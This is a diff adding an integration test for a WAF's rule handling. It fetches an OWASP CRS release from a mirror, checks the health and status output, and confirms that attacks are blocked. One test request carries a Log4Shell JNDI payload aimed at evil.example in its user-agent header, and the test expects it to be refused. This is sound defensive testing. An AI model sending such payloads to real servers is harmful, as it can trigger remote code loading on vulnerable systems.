@@ -5,6 +5,7 @@ import { setTimeout as sleep } from 'node:timers/promises';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import type { WafEntry } from '../../../src/waf/plan/waf-log.ts';
 import { docker } from '../../support/cli.ts';
+import { rulesMirror } from '../../support/waf/mirror.ts';
 import { type Workspace, workspace } from '../../support/workspace.ts';
 import { type Asked, bodyOf } from './benign/request.ts';
 import { ADDRESSES, ATTACKS, COOKIES, FILE_NAMES, TITLES } from './waf-cases.ts';
@@ -202,5 +203,38 @@ describe('settings', () => {
     });
     const lines = (await stack.run(['logs', 'edge'])).stdout;
     expect(lines).not.toContain('<!doctype html>');
+  });
+
+  it('`up` right after `waf rules fetch` has the WAF read the release, and goes back where Debian’s are chosen', async () => {
+    const mirror = await rulesMirror(stack.dir);
+    const rules = async (): Promise<string> => {
+      const { checks } = JSON.parse((await stack.run(['health', '--json'])).stdout) as { checks: { id: string; message: string }[] };
+      return checks.find(({ id }) => id === 'waf-rules')?.message ?? '';
+    };
+    try {
+      configure({ mode: 'block', rules: { mirror: mirror.at('good.tar.gz') } });
+      expect((await stack.run(['up'])).status).toBe(0);
+      expect(await rules()).toMatch(
+        /OWASP CRS 3\.3\.\d+ \(Debian, \d+ (?:days|months) old\); 4\.28\.0 is newer: medianest waf rules fetch/,
+      );
+      expect((await stack.run(['waf', 'rules', 'fetch'], { env: mirror.env })).status).toBe(0);
+      expect((await stack.run(['up'])).status).toBe(0);
+      expect(JSON.parse((await stack.run(['waf', 'rules', '--json'])).stdout)).toMatchObject({ version: '4.28.0', from: 'as released' });
+      const read = /OWASP CRS 4\.28\.0 \(as released, \d+ (?:days|months) old\)/;
+      expect(await rules()).toMatch(read);
+      expect((await stack.run(['status'])).stdout.replaceAll(/\s+/g, ' ')).toMatch(read);
+      await sleep(500);
+      const attack = await send({ path: '/', headers: { 'user-agent': '${jndi:ldap://evil.example/a}' } });
+      expect(isRefusal(attack)).toBe(true);
+      expect((await log()).find(({ requestId }) => requestId === attack.id)?.matches).toEqual(
+        expect.arrayContaining([expect.objectContaining({ rule: 944_150 })]),
+      );
+      expect(isRefusal(await send({ path: '/' }))).toBe(false);
+      configure({ mode: 'block', rules: { source: 'debian' } });
+      expect((await stack.run(['up'])).status).toBe(0);
+      expect(JSON.parse((await stack.run(['waf', 'rules', '--json'])).stdout)).toMatchObject({ from: 'Debian' });
+    } finally {
+      mirror.close();
+    }
   });
 });
